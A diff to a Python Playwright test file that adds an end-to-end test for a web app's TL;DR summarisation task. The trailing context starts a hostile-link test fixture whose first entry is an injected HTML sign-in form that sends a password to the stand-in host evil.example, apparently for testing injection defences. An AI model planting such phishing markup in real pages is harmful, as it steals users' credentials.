@@ -568,6 +568,39 @@ def test_the_e2e_task_from_the_form_to_both_panes_and_its_lesson(task_server, wi
         assert "task model" not in page.inner_text("#page-header")
 
 
+def test_the_tldr_task_from_an_example_post_to_both_panes_and_the_subject_line(server):
+    """TL;DR runs the default model the page already serves (no task models needed): pick the task, click
+    a test-set post, Generate; both panes fill and the line under them says whether each names the subject."""
+    from app.tasks import post_examples
+
+    with playwright.sync_playwright() as p:
+        browser, page = _open(p, server.local_url, 1440, 900)
+        assert not page.locator("#tldr-box").is_visible()
+        page.click("#setting-task label:has-text('TL;DR')")
+        assert _wait(lambda: page.locator("#tldr-box").is_visible(), 10)
+        assert "default model prompted for a TL;DR" in page.inner_text("#tldr-note")
+        assert _wait(lambda: "TL;DR task" in page.inner_text("#status"), 60), page.inner_text("#status")
+        box = "#setting-prompt textarea"
+        assert page.input_value(box).startswith(post_examples()[0].title + "\n\n")  # an example replaced the chat prompt
+        post = post_examples()[1]
+        page.click(f"#tldr-examples button:has-text({post.title[:30]!r})")
+        assert _wait(lambda: page.input_value(box).startswith(post.title), 10), page.input_value(box)[:80]
+        assert not page.locator("#setting-decay").is_visible() and "stays yours" in page.inner_text("#task-note")
+        page.locator("#generate-btn").scroll_into_view_if_needed()
+        page.click("#generate-btn")
+        _run_to_done(page, 180)
+        assert "general skip policy" in page.inner_text("#status")
+        assert _token_count(page) > 0 and _full_length(page) > 0  # both panes filled
+        headline = page.inner_text("#headline")
+        assert "Main subject: dad; games, play (the people the test set's reference TL;DR names" in headline, headline
+        assert re.search(r"Full model: (names the subject|misses)", headline) and "SkipDecode 2x: " in headline
+        assert re.search(r"The prompt: \d+ tokens, read once at full depth for both models .*; time to the first token",
+                         headline), headline
+        page.fill(box, "Only a title")  # a post without its text: named under the box, as text
+        assert _wait(lambda: "it has a title but no text" in page.inner_text("#mr-problem"), 10)
+        browser.close()
+
+
 # Links a stranger could post: each part tries to draw a page element of its own.
 HOSTILE_LINK = {
     '<form action="http://evil.example/s"><p>Your session expired. Sign in</p><input type="password" name="pw">'
